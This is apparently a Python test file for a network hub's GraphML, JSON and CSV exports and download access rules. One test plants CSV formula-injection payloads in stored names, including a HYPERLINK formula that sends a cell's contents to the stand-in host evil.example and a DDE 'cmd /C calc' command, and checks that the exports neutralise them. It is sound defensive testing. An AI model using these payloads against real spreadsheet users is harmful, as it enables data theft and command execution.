"""Exports: GraphML that networkx reads back, JSON that validates, downloads by URL."""

from __future__ import annotations

import csv
import io
import json

import httpx
import jsonschema
import networkx as nx

from hub.db.driver import Database, Tx
from hub.network.export import JSON_SCHEMA
from tests.network import sample
from tests.network.conftest import Callers, park_network

U = sample.USCC


async def test_graphml_opens_in_networkx_with_every_attribute(
    app_client: httpx.AsyncClient, callers: Callers
) -> None:
    data = await park_network(
        app_client, callers.operator, "nodes { id } edges { id } graphml(withFigures: true)"
    )
    graph = nx.parse_graphml(data["graphml"])
    assert graph.number_of_nodes() == len(data["nodes"]) == 11
    assert graph.number_of_edges() == len(data["edges"]) == 15
    a3 = graph.nodes[f"org:{U['a3']}"]
    assert a3["kind"] == "organization" and a3["label_en"] == "Firm a3"
    assert a3["label"] == "Firm a3（虚构）" and a3["degree"] == 3
    assert abs(a3["betweenness"] - 6 / 15) < 1e-6
    edge = graph.edges[f"org:{U['a1']}", f"org:{U['a2']}"]
    assert edge["kind"] == "collaborated_with" and edge["weight"] == 2
    assert "value" not in edge  # hidden from operators; GraphML has no null


async def test_json_validates_against_its_schema(
    app_client: httpx.AsyncClient, callers: Callers
) -> None:
    data = await park_network(app_client, callers.operator, "json(withFigures: true)")
    document = data["json"]
    jsonschema.validate(document, JSON_SCHEMA)
    ids = {n["data"]["id"] for n in document["elements"]["nodes"]}
    assert all(
        e["data"]["source"] in ids and e["data"]["target"] in ids
        for e in document["elements"]["edges"]
    )
    jsonschema.Draft202012Validator.check_schema(JSON_SCHEMA)


async def test_downloads_by_url_with_the_same_token(
    app_client: httpx.AsyncClient, callers: Callers
) -> None:
    data = await park_network(
        app_client,
        callers.operator,
        "g: downloadPath(format: GRAPHML) c: downloadPath(format: CSV, table: RECRUIT)",
        filter={"branch": "BIO"},
    )
    assert data["g"] == f"/network/network.graphml?parks={sample.A}&branch=BIO"
    auth = {"authorization": f"Bearer {callers.operator}"}
    graphml = await app_client.get(data["g"], headers=auth)
    assert graphml.status_code == 200
    assert graphml.headers["content-type"].startswith("application/graphml+xml")
    assert nx.parse_graphml(graphml.text).number_of_nodes() > 0
    recruit = await app_client.get(data["c"], headers=auth)
    rows = list(csv.DictReader(io.StringIO(recruit.text.lstrip("\ufeff"))))
    assert [r["capability"] for r in rows] == ["BIO.USP.PRF"]
    as_json = await app_client.get(f"/network/network.json?parks={sample.A}", headers=auth)
    jsonschema.validate(json.loads(as_json.text), JSON_SCHEMA)


async def test_downloads_keep_the_access_rules(
    app_client: httpx.AsyncClient, callers: Callers
) -> None:
    auth = {"authorization": f"Bearer {callers.operator}"}
    other = await app_client.get(f"/network/coverage.csv?parks={sample.B}", headers=auth)
    assert other.status_code == 404 and other.json()["field"] == "scope.parks"
    anonymous = await app_client.get(f"/network/coverage.csv?parks={sample.A}")
    assert anonymous.status_code == 401
    unknown = await app_client.get("/network/prices.csv", headers=auth)
    assert unknown.status_code == 404 and unknown.json()["field"] == "filename"
    bad = await app_client.get("/network/coverage.csv?branch=NOPE", headers=auth)
    assert bad.status_code == 400 and bad.json()["field"] == "filter.branch"


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
# One name per character a spreadsheet reads as the start of a formula.
HOSTILE = {
    "a1": (HYPERLINK, CALC),
    "a2": ("+1+1", "-2+3"),
    "a3": ("\t=1+1", "\r=1+1"),
    "a4": ("Firm\x00a4", "Firm\x1b[31ma4"),  # NUL and ESC
}
TABLES = ("nodes", "edges", "figures", "coverage", "unmet_requests", "recruit", "utilisation")


async def _rename(tx: Tx, names: dict[str, tuple[str, str]]) -> None:
    # Written directly: the registry refuses control characters at input, but an export
    # must stay valid whatever is stored.
    rows = [{"uscc": U[firm], "zh": zh, "en": en} for firm, (zh, en) in names.items()]
    await tx.run(
        "UNWIND $rows AS x MATCH (o:Organization {uscc: x.uscc}) "
        "SET o.name_zh = x.zh, o.name_en = x.en, o.updated_at = datetime()",
        rows=rows,
    )


async def test_csv_cells_that_would_be_formulas_are_quoted_text(
    app_client: httpx.AsyncClient, callers: Callers, network: Database
) -> None:
    await network.write(_rename, HOSTILE)
    fields = " ".join(f"{t}: csv(table: {t.upper()})" for t in TABLES)
    data = await park_network(app_client, callers.operator, fields)
    for table in TABLES:
        text = data[table]
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # only a number the hub computed may start so
    nodes = {r["key"]: r for r in csv.DictReader(io.StringIO(data["nodes"].lstrip("\ufeff")))}
    shown = {f: (nodes[U[f]]["label_zh"], nodes[U[f]]["label_en"]) for f in HOSTILE}
    assert shown["a1"] == ("'" + HYPERLINK, "'" + CALC)
    assert shown["a2"] == ("'+1+1", "'-2+3")
    assert shown["a3"] == ("'\t=1+1", "'\r=1+1")
    assert shown["a4"] == ("Firm\ufffda4", "Firm\ufffd[31ma4")
    # every text cell is quoted, the neutralised ones included (as OWASP advises)
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"' in data["nodes"]
    assert f'"\'{CALC}"' in data["nodes"]
    auth = {"authorization": f"Bearer {callers.operator}"}
    download = await app_client.get(f"/network/nodes.csv?parks={sample.A}", headers=auth)
    assert download.text == data["nodes"]


async def test_every_export_stays_valid_with_control_characters_stored(
    app_client: httpx.AsyncClient, callers: Callers, network: Database
) -> None:
    await network.write(_rename, HOSTILE)
    data = await park_network(
        app_client, callers.operator, "graphml(withFigures: true) json(withFigures: true)"
    )
    graph = nx.parse_graphml(data["graphml"])
    a4 = graph.nodes[f"org:{U['a4']}"]
    assert (a4["label_zh"], a4["label_en"]) == ("Firm\ufffda4", "Firm\ufffd[31ma4")
    assert graph.nodes[f"org:{U['a1']}"]["label_en"] == CALC  # XML needs no neutralising
    jsonschema.validate(data["json"], JSON_SCHEMA)
    auth = {"authorization": f"Bearer {callers.operator}"}
    for path in ("network.graphml", "network.json"):
        download = await app_client.get(f"/network/{path}?parks={sample.A}", headers=auth)
        assert download.status_code == 200
        assert "\x00" not in download.text and "\x1b" not in download.text
    as_xml = await app_client.get(f"/network/network.graphml?parks={sample.A}", headers=auth)
    assert nx.parse_graphml(as_xml.text).number_of_nodes() == graph.number_of_nodes()


async def test_graphml_is_undirected_so_tools_find_the_hubs_figures(
    app_client: httpx.AsyncClient, callers: Callers
) -> None:
    data = await park_network(
        app_client,
        callers.operator,
        "graphml(withFigures: true) figures { nodes { uscc degree betweenness } }",
    )
    graph = nx.parse_graphml(data["graphml"])
    firms = [n for n, d in graph.nodes(data=True) if d["kind"] == "organization"]
    # as a tool computes it: the firms and their collaborations, as the file declares them
    collaboration = graph.subgraph(firms)
    degree = dict(collaboration.degree())
    betweenness = nx.betweenness_centrality(collaboration, normalized=True)
    hub = {f"org:{n['uscc']}": n for n in data["figures"]["nodes"]}
    assert set(hub) == set(firms)
    for firm in firms:
        assert degree[firm] == hub[firm]["degree"] == graph.nodes[firm]["degree"]
        assert abs(betweenness[firm] - hub[firm]["betweenness"]) < 1e-6
    assert any(value > 0 for value in betweenness.values())
    assert not graph.is_directed() and 'edgedefault="undirected"' in data["graphml"]
